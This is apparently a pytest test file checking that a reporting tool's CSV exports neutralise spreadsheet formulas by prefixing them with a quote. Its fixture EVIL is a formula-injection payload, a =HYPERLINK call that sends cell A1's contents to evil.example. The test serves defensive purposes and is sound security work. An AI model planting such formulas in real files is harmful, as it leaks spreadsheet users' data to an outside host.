"""CSV exports are safe to open in a spreadsheet: a cell that would run as a formula is text."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy import update
from typer.testing import CliRunner

from sync.cli import app
from sync.csvout import neutralise, write_rows
from sync.ledger.models import CampaignRow
from tests.sync.report_world import analytics_config, world_ledger

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (EVIL, "'" + EVIL),
        ("+1 555 0100 call", "'+1 555 0100 call"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Spring Webinar", "Spring Webinar"),
        ("a=b", "a=b"),  # only a leading character makes a formula
        ("-1500.00", "-1500.00"),  # a negative amount stays a number
        ("+3", "+3"),
        (-1500, -1500),
        (None, ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(value: object, cell: object) -> None:
    assert neutralise(value) == cell


def test_the_writer_neutralises_headers_and_cells_and_reads_back_as_text() -> None:
    out = io.StringIO()
    write_rows(out, ["name", "=cmd"], [[EVIL, -3], ["plain", None]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["name", "'=cmd"], ["'" + EVIL, "-3"], ["plain", ""]]


def test_a_campaign_named_like_a_formula_reaches_the_csv_export_as_text(tmp_path: Path) -> None:
    engine, _world = world_ledger(tmp_path)
    try:
        with engine.begin() as conn:
            renamed = conn.execute(
                update(CampaignRow)
                .where(CampaignRow.name == "Monthly Newsletter")  # type: ignore[arg-type]
                .values(name=EVIL)
            ).rowcount
        assert renamed >= 1
        config = analytics_config(tmp_path)
        out = tmp_path / "csv"
        args = ["report", "--format", "csv", "--out", str(out), "--config", str(config.path)]
        result = CliRunner().invoke(app, [*args, "--database-url", str(engine.url)])
        assert result.exit_code == 0, result.output
        json_out = tmp_path / "r.json"
        args = ["report", "--format", "json", "--out", str(json_out), "--config", str(config.path)]
        result = CliRunner().invoke(app, [*args, "--database-url", str(engine.url)])
        assert result.exit_code == 0, result.output
    finally:
        engine.dispose()
    with (out / "campaigns.csv").open(encoding="utf-8", newline="") as handle:
        names = [row["campaign"] for row in csv.DictReader(handle)]
    assert "'" + EVIL in names
    assert EVIL not in names
    for path in out.glob("*.csv"):  # no cell of any table starts a formula
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for value in row:
                    assert not value.startswith(("=", "@", "\t", "\r")), (path.name, value)
    # JSON is data, not a spreadsheet: the name is kept as it is.
    document = json.loads(json_out.read_text(encoding="utf-8"))
    assert EVIL in [row["campaign"] for row in document["tables"]["campaigns"]]
